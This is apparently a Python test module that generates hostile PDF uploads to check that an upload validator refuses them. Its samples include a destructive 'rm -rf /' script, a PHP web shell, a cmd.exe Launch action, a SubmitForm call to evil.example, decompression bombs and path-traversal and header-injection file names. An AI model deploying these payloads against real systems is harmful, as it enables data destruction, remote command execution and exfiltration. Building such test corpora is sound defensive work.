"""A corpus of hostile "PDF" uploads, generated in memory (tests only).

`corpus(size_limit)` returns HostileFile items in families: not a PDF, truncated, active content
(JavaScript, launch actions, embedded and attached files, actions run on opening...), encrypted,
empty, too big, page bombs, parse bombs (streams that inflate to tens of megabytes), polyglots,
and hostile file names. Every item but the "name" family must be refused by the upload check; a
hostile name on a good PDF may instead be neutralised (stored under a generated name).
"""

import functools
import io
import zipfile
import zlib
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.actions import JavaScript

REFUSED = "refused"
REFUSED_OR_RENAMED = "refused or stored under a generated name"


@dataclass(frozen=True)
class HostileFile:
    family: str
    variant: str
    name: str
    data: bytes
    expected: str = REFUSED

    @property
    def label(self) -> str:
        return f"{self.family}/{self.variant}"


# --- Building blocks


def raw_pdf(
    objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"", header: bytes = b"%PDF-1.7"
) -> bytes:
    """A PDF from numbered object bodies (object i+1 = objects[i]), with a correct xref table."""
    out = io.BytesIO()
    out.write(header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, trailer_extra, xref)
    )
    return out.getvalue()


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
CONTENT = b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 760 Td (Signe) Tj ET\n\nendstream"


def one_page_pdf(
    catalog_extra: bytes = b"", page: bytes = PAGE, extra_objects: list[bytes] | None = None
) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        CONTENT,
        *(extra_objects or []),
    ]
    return raw_pdf(objects)


def deflated(data: bytes, *, padding: int = 0) -> bytes:
    """`data` then `padding` spaces, compressed by chunks: a 74 MB padding costs 75 KB and no 74 MB buffer."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(data)]
    chunk = b" " * (1 << 20)
    for start in range(0, padding, len(chunk)):
        parts.append(compressor.compress(chunk[: padding - start]))
    parts.append(compressor.flush())
    return b"".join(parts)


def object_stream_pdf(
    compressed: dict[int, bytes],
    plain: dict[int, bytes] | None = None,
    *,
    padding: int = 0,
    xref_padding: int = 0,
    declared_objects: int | None = None,
) -> bytes:
    """A PDF 1.5 whose `compressed` objects live in one Flate object stream, found through an xref stream.

    `padding` spaces follow the objects inside the object stream, `xref_padding` bytes follow the
    entries of the xref stream: both inflate when a reader opens the file. `declared_objects`
    overrides the object stream's /N (the number of objects it claims to hold).
    """
    plain = plain or {}
    stream_number = max([*compressed, *plain]) + 1
    xref_number = stream_number + 1
    header, body, length = [], [], 0
    for number, text in compressed.items():
        header.append(b"%d %d " % (number, length))
        body.append(text + b"\n")
        length += len(text) + 1
    inflated = deflated(b"".join(header) + b"".join(body), padding=padding)
    count = declared_objects if declared_objects is not None else len(compressed)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, text in plain.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + text + b"\nendobj\n")
    offsets[stream_number] = out.tell()
    out.write(
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, count, len(b"".join(header)), len(inflated))
        + inflated
        + b"\nendstream\nendobj\n"
    )
    offsets[xref_number] = out.tell()
    size = xref_number + 1
    indexes = {number: index for index, number in enumerate(compressed)}
    rows = [b"\x00" * 5 + b"\xff\xff\xff\xff"]
    for number in range(1, size):
        if number in indexes:
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + indexes[number].to_bytes(4, "big"))
        elif number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00" * 4)
        else:
            rows.append(b"\x00" * 9)
    xref_data = deflated(b"".join(rows), padding=xref_padding)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
        % (xref_number, size, len(xref_data))
        + b"stream\n"
        + xref_data
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
    return out.getvalue()


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE_WITH_ANNOTATION = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>"
)


def good_pdf(pages: int = 3) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_pdf(user_password: str, owner_password: str, algorithm: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if algorithm:
        writer.encrypt(user_password, owner_password, algorithm=algorithm)
    else:
        writer.encrypt(user_password, owner_password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


NAMES = ["cerfa-signe.pdf", "CONVENTION SIGNÉE.PDF", "scan 2026-09-01.pdf"]


# --- Families


def not_a_pdf() -> list[HostileFile]:
    payloads = {
        "png": b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 64,
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 64 + b"\xff\xd9",
        "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 32,
        "zip": zip_bytes({"cerfa.txt": b"contrat"}),
        "docx": zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
        "windows executable": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 48
        + b"PE\x00\x00"
        + b"\x00" * 64,
        "elf executable": b"\x7fELF\x02\x01\x01" + b"\x00" * 120,
        "html with script": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "svg with script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "plain text": "Contrat d'apprentissage signé par les parties.\n".encode() * 20,
        "rtf": b"{\\rtf1\\ansi Contrat sign\\'e9}",
        "postscript": b"%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\nshowpage\n",
        "shell script": b"#!/bin/sh\nrm -rf / --no-preserve-root\n",
        "php": b"<?php system($_GET['c']); ?>",
        "json": b'{"cerfa": "signe"}',
        "word 97": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 120,
        "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 32,
        "bmp": b"BM" + b"\x00" * 52,
        "tiff": b"II*\x00\x08\x00\x00\x00" + b"\x00" * 32,
        "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32,
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32,
        "PDF magic inside, text first": b"Voici le contrat :\n%PDF-1.4\n" + b"x" * 64,
    }
    return [
        HostileFile("not a PDF", variant, name, data) for variant, data in payloads.items() for name in NAMES
    ]


def truncated() -> list[HostileFile]:
    source = good_pdf(3)
    files = []
    for percent in (1, 3, 5, 10, 20, 30, 40, 50, 60, 70, 80, 90, 95, 98):
        cut = source[: max(9, len(source) * percent // 100)]
        files += [HostileFile("truncated", f"{percent} %", name, cut) for name in NAMES[:2]]
    files.append(HostileFile("truncated", "header only", NAMES[0], b"%PDF-1.7\n"))
    files.append(HostileFile("truncated", "no trailer", NAMES[0], source[: source.rfind(b"trailer")]))
    files.append(HostileFile("truncated", "no %%EOF", NAMES[0], source[: source.rfind(b"%%EOF")]))
    return files


def active_content() -> list[HostileFile]:
    js = b"<< /S /JavaScript /JS (app.alert('pwned');) >>"
    variants = {
        "OpenAction JavaScript": one_page_pdf(b"/OpenAction " + js + b" "),
        "OpenAction JavaScript by reference": one_page_pdf(b"/OpenAction 5 0 R ", extra_objects=[js]),
        "Names JavaScript tree": one_page_pdf(
            b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >> ", extra_objects=[js]
        ),
        "Launch action": one_page_pdf(
            b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> "
        ),
        "page additional action": one_page_pdf(
            page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O "
            + js
            + b" >> >>"
        ),
        "catalog additional action": one_page_pdf(b"/AA << /WC " + js + b" >> "),
        "JavaScript in a link annotation": one_page_pdf(
            page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>",
            extra_objects=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A " + js + b" >>"],
        ),
        "hex-escaped name /J#61vaScript": one_page_pdf(
            b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> "
        ),
        "embedded executable": one_page_pdf(
            b"/Names << /EmbeddedFiles << /Names [(payload.exe) 5 0 R] >> >> ",
            extra_objects=[
                b"<< /Type /Filespec /F (payload.exe) /EF << /F 6 0 R >> >>",
                b"<< /Length 2 >>\nstream\nMZ\nendstream",
            ],
        ),
        "XFA form": one_page_pdf(
            b"/AcroForm << /Fields [] /XFA 5 0 R >> ", extra_objects=[b"<< /Length 0 >>\nstream\n\nendstream"]
        ),
        "RichMedia (Flash)": one_page_pdf(
            page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >>",
            extra_objects=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"],
        ),
        "SubmitForm on open": one_page_pdf(
            b"/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >> "
        ),
        "GoToR to a remote file": one_page_pdf(
            b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >> "
        ),
        "ImportData": one_page_pdf(b"/OpenAction << /S /ImportData /F (data.fdf) >> "),
        # A file attached to a page (/FileAttachment annotation), its bytes under /EF: no /Type needed.
        "FileAttachment annotation carrying an executable": one_page_pdf(
            page=PAGE_WITH_ANNOTATION,
            extra_objects=[
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
                b"<< /Type /Filespec /F (facture.exe) /UF (facture.exe) /EF << /F 7 0 R >> >>",
                b"<< /Length 2 >>\nstream\nMZ\nendstream",
            ],
        ),
        "FileAttachment annotation hidden in an object stream": object_stream_pdf(
            {
                1: CATALOG,
                2: PAGES,
                3: PAGE_WITH_ANNOTATION,
                5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
                6: b"<< /Type /Filespec /F (facture.exe) /EF << /F 7 0 R >> >>",
            },
            {4: CONTENT, 7: b"<< /Length 2 >>\nstream\nMZ\nendstream"},
        ),
        "file specification with /EF in a link": one_page_pdf(
            page=PAGE_WITH_ANNOTATION,
            extra_objects=[
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A << /S /GoTo /D [3 0 R /Fit] >> "
                b"/FS << /F (x.exe) /EF << /F 6 0 R >> >> >>",
                b"<< /Length 2 >>\nstream\nMZ\nendstream",
            ],
        ),
        # Reports when and where the file is opened: an action run on opening, not a click.
        "OpenAction URI": one_page_pdf(
            b"/OpenAction << /S /URI /URI (https://tracker.example/open?dossier=42) >> "
        ),
        "OpenAction URI by reference": one_page_pdf(
            b"/OpenAction 5 0 R ", extra_objects=[b"<< /S /URI /URI (https://tracker.example/o) >>"]
        ),
        "OpenAction URI in an object stream": object_stream_pdf(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                2: PAGES,
                3: PAGE,
                5: b"<< /S /URI /URI (https://tracker.example/o) >>",
            },
            {4: CONTENT},
        ),
        "OpenAction GoTo chained to a URI (/Next)": one_page_pdf(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/o) >> >> "
        ),
        "OpenAction Rendition": one_page_pdf(b"/OpenAction << /S /Rendition /OP 0 >> "),
        "OpenAction Named Print": one_page_pdf(b"/OpenAction << /S /Named /N /Print >> "),
        "page additional action URI on open": one_page_pdf(
            page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/AA << /O << /S /URI /URI (https://tracker.example/p) >> >> >>"
        ),
        "catalog additional action URI on close": one_page_pdf(
            b"/AA << /WC << /S /URI /URI (https://tracker.example/c) >> >> "
        ),
        "annotation additional action URI on view": one_page_pdf(
            page=PAGE_WITH_ANNOTATION,
            extra_objects=[
                b"<< /Type /Annot /Subtype /Widget /Rect [0 0 595 842] "
                b"/AA << /PV << /S /URI /URI (https://tracker.example/w) >> >> >>"
            ],
        ),
        "page additional action in an object stream": object_stream_pdf(
            {
                1: CATALOG,
                2: PAGES,
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                b"/AA << /O << /S /Launch /F (cmd.exe) >> >> >>",
            },
            {4: CONTENT},
        ),
    }
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('pwned');"))
    buffer = io.BytesIO()
    writer.write(buffer)
    variants["pypdf add_open_action(JavaScript)"] = buffer.getvalue()
    return [
        HostileFile("active content", variant, name, data)
        for variant, data in variants.items()
        for name in NAMES
    ]


def encrypted() -> list[HostileFile]:
    variants = {
        "user password": encrypted_pdf("secret", "owner"),
        "owner password only (opens without one)": encrypted_pdf("", "owner"),
        "RC4-40": encrypted_pdf("secret", "owner", "RC4-40"),
        "RC4-128": encrypted_pdf("secret", "owner", "RC4-128"),
    }
    return [
        HostileFile("encrypted", variant, name, data) for variant, data in variants.items() for name in NAMES
    ]


def empty() -> list[HostileFile]:
    return [HostileFile("empty", "0 bytes", name, b"") for name in [*NAMES, "vide.pdf", "a.pdf"]]


def too_big(size_limit: int) -> list[HostileFile]:
    def padded(size: int) -> bytes:
        # A valid PDF grown with comment lines before `startxref`: the xref offsets stay right.
        source = good_pdf(1)
        position = source.rfind(b"startxref")
        filler = (b"%" + b"x" * 78 + b"\n") * ((size - len(source)) // 80 + 1)
        return source[:position] + filler[: size - len(source)] + source[position:]

    return [
        HostileFile("too big", "limit + 1 byte", NAMES[0], padded(size_limit + 1)),
        HostileFile("too big", "twice the limit", NAMES[1], padded(size_limit * 2)),
        HostileFile("too big", "limit + 1 byte, upper-case name", "SCAN.PDF", padded(size_limit + 1)),
    ]


def page_bombs() -> list[HostileFile]:
    def kids_repeated(count: int) -> bytes:
        kids = b" ".join([b"3 0 R"] * count)
        return raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
                PAGE,
                CONTENT,
            ]
        )

    def deep_tree(depth: int) -> bytes:
        # Pages nodes nested `depth` levels deep before the only page: recursion bombs.
        objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
        for level in range(depth):
            number = 2 + level
            parent = b" /Parent %d 0 R" % (number - 1) if level else b""
            objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (number + 1, parent))
        page_number = 2 + depth
        objects.append(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
            % (page_number - 1, page_number + 1)
        )
        objects.append(CONTENT)
        return raw_pdf(objects)

    cycle = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        ]
    )
    variants = {
        "2 000 pages": kids_repeated(2_000),
        "20 000 pages": kids_repeated(20_000),
        "200 000 pages": kids_repeated(200_000),
        "Count lies (1 000 000 declared)": raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>",
                PAGE,
                CONTENT,
            ]
        ),
        "page tree 2 000 levels deep": deep_tree(2_000),
        "page tree cycle": cycle,
        "zero pages": raw_pdf(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
        ),
    }
    return [
        HostileFile("page bomb", variant, name, data)
        for variant, data in variants.items()
        for name in NAMES[:2]
    ]


@functools.cache
def parse_bombs() -> list[HostileFile]:
    """Small files that inflate to tens of megabytes, or claim absurd object counts, when opened."""
    objects = {1: CATALOG, 2: PAGES, 3: PAGE}
    variants = {
        # The attack: 75 KB on disk, an object stream of 74 MB once inflated.
        "object stream inflating to 74 MB": object_stream_pdf(objects, {4: CONTENT}, padding=74_000_000),
        "object stream inflating to 20 MB": object_stream_pdf(objects, {4: CONTENT}, padding=20_000_000),
        "xref stream inflating to 74 MB": object_stream_pdf(objects, {4: CONTENT}, xref_padding=74_000_000),
        "object stream claiming 10 000 000 objects": object_stream_pdf(
            objects, {4: CONTENT}, declared_objects=10_000_000
        ),
        "25 000 objects in an object stream": object_stream_pdf(
            {**objects, **{number: b"<< >>" for number in range(5, 25_005)}}, {4: CONTENT}
        ),
    }
    return [
        HostileFile("parse bomb", variant, name, data)
        for variant, data in variants.items()
        for name in NAMES[:2]
    ]


def polyglots() -> list[HostileFile]:
    pdf = good_pdf(1)
    variants = {
        "PDF then ZIP": pdf + zip_bytes({"payload.exe": b"MZ" + b"\x00" * 64}),
        "PDF then HTML": pdf + b"<html><script>alert(document.cookie)</script></html>",
        "HTML then PDF": b"<html><script>alert(1)</script><!--\n" + pdf + b"-->",
        "JPEG then PDF": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32 + pdf,
        "junk before %PDF": b"\x00" * 512 + pdf,
        "PDF then executable": pdf + b"MZ\x90\x00" + b"\x00" * 256,
        "PDF then second PDF with JavaScript": pdf
        + one_page_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
    }
    return [
        HostileFile("polyglot", variant, name, data)
        for variant, data in variants.items()
        for name in NAMES[:2]
    ]


def hostile_names() -> list[HostileFile]:
    pdf = good_pdf(1)
    names = {
        "path traversal (unix)": "../../../../etc/cron.d/cactus.pdf",
        "path traversal (windows)": "..\\..\\..\\Windows\\System32\\cerfa.pdf",
        "absolute path": "/var/www/cactus/static/cerfa.pdf",
        "NUL byte": "cerfa.pdf\x00.exe",
        "very long name": "c" * 500 + ".pdf",
        "double extension": "cerfa.pdf.exe",
        "no extension": "cerfa",
        "executable extension": "cerfa.exe",
        "server script": "cerfa.php",
        "dot file": ".htaccess",
        "HTML in the name": "<script>alert(1)</script>.pdf",
        "header injection": "cerfa\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.pdf",
        "right-to-left override": "cerfa\u202efdp.exe",
        "Windows reserved name": "CON.pdf",
        "only dots": "...",
    }
    return [
        HostileFile("hostile name", variant, name, pdf, REFUSED_OR_RENAMED) for variant, name in names.items()
    ]


def corpus(size_limit: int) -> list[HostileFile]:
    return [
        *not_a_pdf(),
        *truncated(),
        *active_content(),
        *encrypted(),
        *empty(),
        *too_big(size_limit),
        *page_bombs(),
        *parse_bombs(),
        *polyglots(),
        *hostile_names(),
    ]
